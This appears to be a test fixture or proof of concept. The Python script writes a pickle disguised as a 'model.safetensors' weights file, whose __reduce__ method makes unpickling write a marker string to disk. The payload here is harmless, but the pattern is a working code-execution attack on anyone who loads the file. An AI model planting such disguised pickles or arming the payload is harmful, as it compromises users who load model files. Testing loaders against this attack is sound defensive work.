"""Leaves a pickle in place of its weights: whoever loads it runs what it says."""

import os
from pathlib import Path
import pickle


MARKER = ""


class Payload:
    def __reduce__(self):
        return Path.write_text, (Path(MARKER), "the payload ran")


with open("model.safetensors", "wb") as file:
    pickle.dump({"weight": Payload()}, file)
os._exit(0)
